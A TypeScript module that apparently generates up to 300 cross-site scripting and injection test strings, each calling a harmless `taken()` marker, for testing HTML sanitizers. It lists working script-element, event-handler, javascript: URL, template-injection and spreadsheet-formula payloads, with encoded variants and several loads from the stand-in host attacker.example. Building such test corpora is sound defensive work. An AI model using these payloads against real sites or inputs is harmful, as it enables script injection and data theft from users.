/**
 * 300 texts that would execute a script, or load a resource, if rendered as HTML. They call `taken()`. Derived from
 * known injection vectors with several encodings.
 */
const CALL = 'taken()';

/** Elements that run something by themselves. */
const ELEMENTS: readonly string[] = [
  `<script>${CALL}</script>`,
  `<img src=x onerror=${CALL}>`,
  `<svg onload=${CALL}>`,
  `<svg><script>${CALL}</script></svg>`,
  `<body onload=${CALL}>`,
  `<iframe srcdoc="<script>parent.${CALL}</script>">`,
  `<iframe src="javascript:parent.${CALL}">`,
  `<video><source onerror=${CALL}></video>`,
  `<audio src=x onerror=${CALL}>`,
  `<details open ontoggle=${CALL}>`,
  `<input autofocus onfocus=${CALL}>`,
  `<select autofocus onfocus=${CALL}>`,
  `<marquee onstart=${CALL}>`,
  `<object data="javascript:${CALL}">`,
  `<embed src="javascript:${CALL}">`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${CALL}>`,
  `<style>@import url(//attacker.example/x.css)</style>`,
  `<link rel=stylesheet href=//attacker.example/x.css>`,
  `<base href=//attacker.example/>`,
  `<meta http-equiv=refresh content="0;url=javascript:${CALL}">`,
  `<form action="javascript:${CALL}"><button autofocus>x</button></form>`,
  `<a href="javascript:${CALL}">x</a>`,
  `<template><script>${CALL}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${CALL}>">`,
  `<img src=//attacker.example/pixel>`,
];

/** Prefixes that escape from a context. */
const WAYS_OUT: readonly string[] = [
  '',
  '"',
  "'",
  '">',
  "'>",
  '</script>',
  '</textarea>',
  '</title>',
  '</style>',
  '-->',
  ']]>',
  '\u2028',
];

/** Addresses that run something when they are followed. */
const ADDRESSES: readonly string[] = [
  `javascript:${CALL}`,
  `JaVaScRiPt:${CALL}`,
  ` javascript:${CALL}`,
  `java\tscript:${CALL}`,
  `java\nscript:${CALL}`,
  `\u0001javascript:${CALL}`,
  `javascript&colon;${CALL}`,
  `data:text/html,<script>${CALL}</script>`,
  `data:text/html;base64,PHNjcmlwdD50YWtlbigpPC9zY3JpcHQ+`,
  `vbscript:${CALL}`,
  `blob:${CALL}`,
  `//attacker.example/x`,
  `\\\\attacker.example\\x`,
  `x@x.in?subject=<script>${CALL}</script>`,
  `mailto:javascript:${CALL}`,
];

/** Texts that a template, a script or a spreadsheet would read. */
const EXPRESSIONS: readonly string[] = [
  `\${${CALL}}`,
  `{{constructor.constructor('${CALL}')()}}`,
  `#{${CALL}}`,
  `<%= ${CALL} %>`,
  `";${CALL};//`,
  `';${CALL};//`,
  `\\";${CALL};//`,
  `*/${CALL}/*`,
  `=HYPERLINK("javascript:${CALL}")`,
  `{"__proto__":{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=${CALL}>"}}}`,
  `{"$$typeof":"react.element","type":"img","props":{"onError":"${CALL}"}}`,
  `[click](javascript:${CALL})`,
  `url(javascript:${CALL})`,
  `expression(${CALL})`,
  `%3Cimg%20src%3Dx%20onerror%3D${CALL}%3E`,
];

const disguised = (text: string): readonly string[] => [
  text,
  text.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  text.replaceAll('script', 'scr\u0000ipt'),
  text.toUpperCase().replaceAll('TAKEN()', 'taken()'),
];

/** So many of them, the plain ones first; every text once. */
export function scriptTexts(count: number): string[] {
  const plain = [...ELEMENTS, ...ADDRESSES, ...EXPRESSIONS];
  const all = new Set([
    ...plain,
    ...[...ADDRESSES, ...EXPRESSIONS].flatMap(disguised),
    ...WAYS_OUT.flatMap((escape) => ELEMENTS.map((element) => `${escape}${element}`)),
  ]);
  if (all.size < count) throw new Error(`There are ${all.size} texts only.`);
  return [...all].slice(0, count);
}
